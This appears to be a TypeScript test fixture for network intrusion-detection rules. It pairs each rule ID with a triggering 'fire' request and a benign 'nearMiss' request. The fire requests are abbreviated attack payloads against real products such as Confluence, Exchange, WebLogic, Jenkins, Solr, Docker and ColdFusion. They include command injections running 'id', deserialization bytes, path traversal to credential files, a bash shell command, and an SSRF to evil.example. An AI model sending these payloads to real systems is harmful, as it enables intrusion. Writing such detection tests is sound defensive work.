import { type Case, get, post, put } from '../traffic.js'

/** Traffic for apps.rules. */
export const apps: readonly Case[] = [
  {
    sid: 9001001,
    fire: get('/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/'),
    nearMiss: get('/search?q=java.lang.Runtime+getRuntime'),
  },
  {
    sid: 9001002,
    fire: get('/%24%7Bnew%20javax.script.ScriptEngineManager().getEngineByName(%22nashorn%22)%7D/'),
    nearMiss: get('/docs/javax.script.ScriptEngineManager.html'),
  },
  {
    sid: 9001003,
    fire: post(
      '/pages/createpage-entervariables.action',
      'queryString=aa\\u0027%2b{Class.forName(\\u0027x\\u0027)}%2b\\u0027',
    ),
    nearMiss: post('/pages/createpage-entervariables.action', 'queryString=spaceKey%3DDS'),
  },
  {
    sid: 9001004,
    fire: get('/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false'),
    nearMiss: get('/server-info.action?setupComplete=false'),
  },
  {
    sid: 9001005,
    fire: post('/json/setup-restore.action?synchronous=true', 'x=1'),
    nearMiss: get('/json/setup-restore.action'),
  },
  {
    sid: 9001006,
    fire: post('/template/aui/text-inline.vm', 'label=\\u0027%2b#request\\u005b\\u0027.KEY\\u0027'),
    nearMiss: post('/template/aui/text-inline.vm', 'label=Hello'),
  },
  {
    sid: 9001007,
    fire: get(
      '/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example',
    ),
    nearMiss: get('/autodiscover/autodiscover.json?Email=user@example.com&Protocol=ActiveSync'),
  },
  {
    sid: 9001008,
    fire: post('/ecp/y.js', 'x', { Cookie: 'X-BEResource=mail/EWS/Exchange.asmx?a=~1942062522' }),
    nearMiss: post('/ecp/y.js', 'x', { Cookie: 'X-BEResource=mail.example.com' }),
  },
  {
    sid: 9001009,
    fire: get('/ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEyhAYAAQAAAP'),
    nearMiss: get('/ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27'),
  },
  {
    sid: 9001010,
    fire: post('/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx', 'MSOTlPn_Uri=x', {
      Referer: '/_layouts/SignOut.aspx',
    }),
    nearMiss: post('/_layouts/15/ToolPane.aspx?DisplayMode=Edit', 'x=1', {
      Referer: 'https://www.example.com/sites/a.aspx',
    }),
  },
  {
    sid: 9001011,
    fire: post('/Telerik.Web.UI.WebResource.axd?type=rau', 'rauPostData=AAAA'),
    nearMiss: get('/Telerik.Web.UI.WebResource.axd?type=rau'),
  },
  {
    sid: 9001012,
    fire: post(
      '/wls-wsat/CoordinatorPortType',
      '<work:WorkContext><java><void class="java.lang.ProcessBuilder"></void></java></work:WorkContext>',
    ),
    nearMiss: get('/wls-wsat/CoordinatorPortType'),
  },
  {
    sid: 9001013,
    fire: post(
      '/_async/AsyncResponseServiceHttps',
      '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"/>',
    ),
    nearMiss: post('/_async/AsyncResponseService', '<soapenv:Envelope/>'),
  },
  {
    sid: 9001014,
    fire: get('/console/images/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel='),
    nearMiss: get('/console/console.portal?_nfpb=true'),
    also: [9005013],
  },
  {
    sid: 9001015,
    fire: put('/shell.jsp/', '<% out.print(1); %>'),
    nearMiss: put('/docs/shell.jsp.txt', 'x'),
  },
  {
    sid: 9001016,
    fire: put('/a/session.session', 'xxxx', { 'Content-Range': 'bytes 0-3/8' }),
    nearMiss: put('/a/notes.session.txt', 'xxxx', { 'Content-Range': 'bytes 0-3/8' }),
  },
  {
    sid: 9001017,
    fire: put('/manager/text/deploy?path=/x', 'PK'),
    nearMiss: get('/manager/text/deploy-guide'),
  },
  {
    sid: 9001018,
    fire: post('/remoting', '\xac\xed\x00\x05sr\x00\x11java.util.HashSet'),
    nearMiss: post('/remoting', 'ab\xac\xed\x00\x05sr'),
  },
  {
    sid: 9001019,
    fire: post('/invoker/readonly', '\xac\xed\x00\x05sr\x00\x11java.util.HashMap'),
    nearMiss: post('/invoker/readonly', 'hello'),
    also: [9001018],
  },
  {
    sid: 9001020,
    fire: get(
      '/jmx-console/HtmlAdaptor?action=invokeOpByName&name=jboss.admin:service=DeploymentFileRepository&methodName=store',
    ),
    nearMiss: get('/jmx-console/HtmlAdaptor?action=displayMBeans'),
  },
  {
    sid: 9001021,
    fire: post('/api/x', '\x00\x3aorg.apache.commons.collections.functors.InvokerTransformer\x87'),
    nearMiss: post('/api/x', 'org.apache.commons.collections.map.LazyMap'),
  },
  {
    sid: 9001022,
    fire: get(
      '/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=public+class+x',
    ),
    nearMiss: get('/descriptorByName/hudson.model.FreeStyleProject/checkDisplayName?value=a'),
  },
  {
    sid: 9001023,
    fire: post('/cli?remoting=false', '\x00\x00\x06\x00\x00\x04help\x00\x00\x0e\x00\x00\x0c@/etc/hosts', {
      Side: 'upload',
    }),
    nearMiss: post('/cli?remoting=false', '\x00\x00\x06\x00\x00\x04help', { Side: 'upload' }),
  },
  {
    sid: 9001024,
    fire: post('/scriptText', 'script=println+%22id%22.execute().text'),
    nearMiss: post('/script', 'script=println(Jenkins.instance.version)'),
  },
  {
    sid: 9001025,
    fire: post(
      '/uploads/user',
      'x\r\nAT&TFORM\x00\x00\x03\xafDJVMDIRM(metadata\n\t(Copyright "\\\n" . qx{id} . "b") )',
    ),
    nearMiss: post('/uploads/user', 'AT&TFORM\x00\x00\x03\xafDJVUINFO'),
  },
  {
    sid: 9001026,
    fire: post(
      '/_search?pretty',
      '{"script_fields":{"x":{"script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime().exec(\\"id\\")"}}}',
    ),
    nearMiss: post('/_search?pretty', '{"query":{"match":{"body":"getRuntime method"}}}'),
  },
  {
    sid: 9001027,
    fire: get('/solr/core/select?q=1&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)'),
    nearMiss: get('/solr/core/select?q=1&wt=velocity&v.template=browse'),
  },
  {
    sid: 9001028,
    fire: post(
      '/solr/core/config',
      '{"update-queryresponsewriter":{"params.resource.loader.enabled":"true"}}',
    ),
    nearMiss: post('/solr/core/config', '{"update-queryresponsewriter":{"name":"velocity"}}'),
  },
  { sid: 9001029, fire: put('/fileserver/a.txt', '<% %>'), nearMiss: get('/fileserver/a.txt') },
  {
    sid: 9001030,
    fire: post('/webtools/control/main/ProgramExport', 'groovyProgram=throw+new+Exception()'),
    nearMiss: post('/webtools/control/main', 'groovyProgram=x'),
  },
  {
    sid: 9001031,
    fire: post(
      '/druid/indexer/v1/sampler',
      '{"filter":{"type":"javascript","function":"function(v){return java.lang.Runtime.getRuntime()}"}}',
    ),
    nearMiss: post('/druid/indexer/v1/sampler', '{"filter":{"type":"selector"}}'),
  },
  {
    sid: 9001032,
    fire: post('/ws/v1/cluster/apps', '{"am-container-spec":{"commands":{"command":"/bin/bash -i"}}}'),
    nearMiss: get('/ws/v1/cluster/apps?states=RUNNING'),
  },
  {
    sid: 9001033,
    fire: post('/v1.24/containers/create', '{"Image":"alpine","HostConfig":{"Binds":["/:/mnt"]}}'),
    nearMiss: post(
      '/v1.24/containers/create',
      '{"Image":"alpine","HostConfig":{"Binds":["/srv/data:/data"]}}',
    ),
  },
  {
    sid: 9001034,
    fire: post('/api/timelion/run', '{"sheet":[".es(*).props(label.__proto__.env.AAAA=1)"]}'),
    nearMiss: post('/api/timelion/run', '{"sheet":[".es(*)"]}'),
  },
  {
    sid: 9001035,
    fire: post('/', '{"then":"$1:__proto__:then","status":"resolved_model"}', { 'Next-Action': 'x' }),
    nearMiss: post('/', '["$K1"]', { 'Next-Action': '7f00' }),
  },
  {
    sid: 9001036,
    fire: get('/admin', {
      'x-middleware-subrequest': 'middleware:middleware:middleware:middleware:middleware',
    }),
    nearMiss: get('/admin', { 'x-middleware-request': 'middleware' }),
  },
  {
    sid: 9001037,
    fire: post(
      '/users',
      '<x type="yaml">--- !ruby/hash:ActionDispatch::Routing::RouteSet::NamedRouteCollection {}</x>',
    ),
    nearMiss: post('/users', '<x type="yaml">--- abc</x>'),
  },
  {
    sid: 9001038,
    fire: get('/robots', { Accept: '../../../../../../etc/hosts{{' }),
    nearMiss: get('/robots', { Referer: 'https://www.example.com/a/../../b' }),
  },
  {
    sid: 9001039,
    fire: post('/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1', 'PK'),
    nearMiss: get('/service/extension/backup/status'),
  },
  {
    sid: 9001040,
    fire: post('/ui/vropspluginui/rest/services/uploadova', 'x'),
    nearMiss: get('/ui/vropspluginui/rest/services/uploadova'),
  },
  {
    sid: 9001041,
    fire: post(
      '/ui/h5-vsan/rest/proxy/service/&vsanQueryUtil_setDataService/setTargetObject',
      '{"methodInput":[null]}',
    ),
    nearMiss: post('/ui/h5-vsan/rest/proxy/service/vmServiceImpl/list', '{}'),
  },
  {
    sid: 9001042,
    fire: get('/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22freemarker%22%3fnew()%7d'),
    nearMiss: get('/catalog-portal/ui/oauth/verify?error=&deviceUdid=9a0364b9'),
  },
  {
    sid: 9001043,
    fire: get('/CFIDE/administrator/enter.cfm?locale=../../../../lib/password.properties%00en'),
    nearMiss: get('/CFIDE/administrator/enter.cfm?locale=en_US'),
    also: [9005018],
  },
  {
    sid: 9001044,
    fire: post(
      '/cf_scripts/x.cfc?method=x&_cfclient=true',
      '_variables={"_metadata":{"classname":"i/../lib/password.properties"}}',
    ),
    nearMiss: post('/cf_scripts/x.cfc?method=x', '_variables={}'),
  },
  {
    sid: 9001045,
    fire: post('/./RestAPI/LogonCustomization', 'methodToCall=previewMobLogo'),
    nearMiss: post('/RestAPI/LogonCustomization', 'methodToCall=x'),
  },
  {
    sid: 9001046,
    fire: post('/OA_HTML/BneUploaderService?bne:uueupload=true', 'x'),
    nearMiss: get('/OA_HTML/BneUploaderService'),
  },
  {
    sid: 9001047,
    fire: post('/developmentserver/metadatauploader?CONTENTTYPE=MODEL&CLIENT=1', 'PK'),
    nearMiss: get('/developmentserver/metadatauploader'),
  },
  {
    sid: 9001048,
    fire: post('/CTCWebService/CTCWebServiceBean/ConfigServlet', '<x/>'),
    nearMiss: get('/CTCWebService/'),
  },
  {
    sid: 9001049,
    fire: post('/hax?jsp=/app/rest/users;.jsp', '{}'),
    nearMiss: get('/app/rest/users?fields=jsp'),
  },
  {
    sid: 9001050,
    fire: post('/app/rest/users/id:1/tokens/RPC2', ''),
    nearMiss: post('/app/rest/users/id:1/tokens/mine', ''),
  },
  { sid: 9001051, fire: get('/app?service=page/SetupCompleted'), nearMiss: get('/app?service=page/Home') },
  {
    sid: 9001052,
    fire: post(
      '/api/setup/validate',
      '{"details":{"db":"zip:/app/metabase.jar!/sample-database.db;TRACE_LEVEL_SYSTEM_OUT=1\\\\;CREATE TRIGGER x"}}',
    ),
    nearMiss: post('/api/setup/validate', '{"details":{"db":"postgres"}}'),
  },
  {
    sid: 9001053,
    fire: get('/setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp'),
    nearMiss: get('/setup/setup-s/index.jsp'),
  },
  {
    sid: 9001054,
    fire: post('/api/v1/validate/code', '{"code":"@exec(\'raise Exception(1)\')\\ndef f(): pass"}'),
    nearMiss: post('/api/v1/validate/code', '{"code":"def f(): return 1"}'),
  },
  {
    sid: 9001055,
    fire: get(
      '/geoserver/wfs?service=WFS&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),%27id%27)',
    ),
    nearMiss: get(
      '/geoserver/wfs?service=WFS&request=GetPropertyValue&typeNames=sf:archsites&valueReference=name',
    ),
  },
  {
    sid: 9001056,
    fire: post(
      '/rest/all/V1/guest-carts/1/estimate-shipping-methods',
      '{"address":{"totalsCollector":{"sourceData":{"data":"http://203.0.113.9/x","dataIsURL":true}}}}',
    ),
    nearMiss: post('/rest/all/V1/guest-carts/1/estimate-shipping-methods', '{"address":{"country_id":"DE"}}'),
  },
]
